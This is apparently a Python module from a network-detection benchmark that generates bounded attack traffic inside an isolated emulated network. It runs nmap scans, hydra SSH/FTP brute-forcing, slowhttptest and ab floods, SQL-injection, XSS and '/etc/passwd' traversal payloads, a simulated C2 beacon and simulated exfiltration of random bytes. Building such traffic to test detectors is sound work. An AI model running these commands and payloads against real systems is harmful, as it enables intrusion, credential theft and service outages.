"""What attackers do on the second network: real tools of Debian and a few scripts, all bounded.

python -m benchmarks.second_network.attacks SCRIPT TURN

`episodes` lists what is run where. Targets are hosts of the second network alone, whose namespaces
have no way out; every episode ends by a count or by its time.
"""

from __future__ import annotations

import contextlib
import http.client
import random
import socket
import sys
import time
import urllib.parse
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

from benchmarks.second_network.hosts import CLIENTS, FILES, STORE, WEB, address_of

LONGEST_S = 110


@dataclass(frozen=True, slots=True)
class Episode:
    """A command on a host. It is ended after `LONGEST_S` seconds."""

    host: str
    command: Sequence[str]


def _script(host: str, *words: str) -> Episode:
    return Episode(host, [sys.executable, "-m", "benchmarks.second_network.attacks", *words])


def _tool(host: str, line: str) -> Episode:
    return Episode(host, line.split())


def episodes(folder: Path, turn: int) -> list[Episode]:
    """What each attacker does in a turn, which differs from turn to turn; all may run side by side."""
    desk = next(host.address for host in CLIENTS)
    low = 1 + 400 * turn
    how = ("-sS -T4", "-sT -T4", "-sS -T3 --max-rate 60")[turn % 3]
    slow = f"-c {(60, 90, 40)[turn % 3]} -r {(15, 40, 5)[turn % 3]} -l 80 -u http://{WEB}/"
    flood = (
        f"-n 700 -c 25 http://{WEB}/",
        f"-n 500 -c 60 http://{WEB}/page3.html",
        f"-k -n 9000 -c 30 http://{WEB}/",
    )
    words, users = folder / "words", folder / "users"
    return [
        _tool("scanner", f"/usr/bin/nmap -n -Pn {how} -p {low}-{low + 260} {WEB} {FILES}"),
        _tool("inmate", f"/usr/bin/nmap -n -Pn {how} -p {low}-{low + 130} {STORE} {desk}"),
        _tool("prober", f"/usr/bin/nmap -n -Pn -sU -T4 --max-retries 1 -p {low}-{low + 110} {WEB} {STORE}"),
        _tool("guesser", f"/usr/bin/hydra -I -t {(4, 8, 2)[turn % 3]} -L {users} -P {words} ssh://{FILES}"),
        _tool("clerk", f"/usr/bin/hydra -I -t {(6, 3, 9)[turn % 3]} -L {users} -P {words} ftp://{FILES}"),
        _tool("trickle", f"/usr/bin/slowhttptest -H -i {(8, 4, 15)[turn % 3]} {slow}"),
        _tool("mud", f"/usr/bin/slowhttptest -B -i {(6, 12, 3)[turn % 3]} -s 8192 {slow}"),
        _tool("straw", f"/usr/bin/slowhttptest -X -w 10 -y 20 -n 4 -z 12 -k 3 {slow}page5.html"),
        _tool("flood", f"/usr/bin/ab -q -s 20 {flood[turn % 3]}"),
        _script("needle", "injections", str(turn)),
        _script("camera", "beacon", str(turn)),
        _script("camera", "exfiltration", str(turn)),
    ]  # fmt: skip


def injections(rng: random.Random) -> None:
    """Requests with SQL, scripts and paths in their parameters, one or a few for a connection."""
    bait = (
        "' OR {0}={0} --", "1 UNION SELECT {0},name,pass FROM users", "<script>alert({0})</script>",
        "../../../../etc/passwd%00{0}", "1; SELECT SLEEP({0})", "admin'/*{0}*/",
    )  # fmt: skip
    until = time.monotonic() + LONGEST_S - 15
    while time.monotonic() < until:
        with contextlib.suppress(OSError, http.client.HTTPException):
            connection = http.client.HTTPConnection(WEB, timeout=10)
            for _ in range(rng.choice([1, 1, 3])):
                text = urllib.parse.quote(rng.choice(bait).format(rng.randrange(99)))
                connection.request("GET", f"/form?id={text}", headers={"User-Agent": "Mozilla/5.0"})
                connection.getresponse().read()
                time.sleep(rng.uniform(0.02, 0.4))
            connection.close()


def beacon(rng: random.Random) -> None:
    """A short exchange with a master, again and again at nearly the same distance."""
    until = time.monotonic() + LONGEST_S - 15
    pause = rng.choice([0.8, 1.5, 3.0])
    while time.monotonic() < until:
        with (
            contextlib.suppress(OSError),
            socket.create_connection((address_of("master"), 443), timeout=5) as link,
        ):
            size = rng.randint(40, 160)
            link.sendall(f"{size}\n".encode() + rng.randbytes(size))
            link.recv(100)
        time.sleep(pause * rng.uniform(0.9, 1.1))


def exfiltration(rng: random.Random) -> None:
    """Large uploads to a stranger, in pieces."""
    until = time.monotonic() + LONGEST_S - 25
    while time.monotonic() < until:
        with (
            contextlib.suppress(OSError),
            socket.create_connection((address_of("fence"), 443), timeout=20) as link,
        ):
            for _ in range(rng.randint(1, 4)):
                size = rng.randint(30_000, 900_000)
                link.sendall(f"{size}\n".encode() + rng.randbytes(size))
                link.recv(100)
                time.sleep(rng.uniform(0, 1.5))
        time.sleep(rng.uniform(0.2, 2))


SCRIPTS = {"injections": injections, "beacon": beacon, "exfiltration": exfiltration}


def main() -> None:
    """One script, once."""
    kind, turn = sys.argv[1:]
    SCRIPTS[kind](random.Random(f"{kind} {turn}"))


if __name__ == "__main__":
    main()
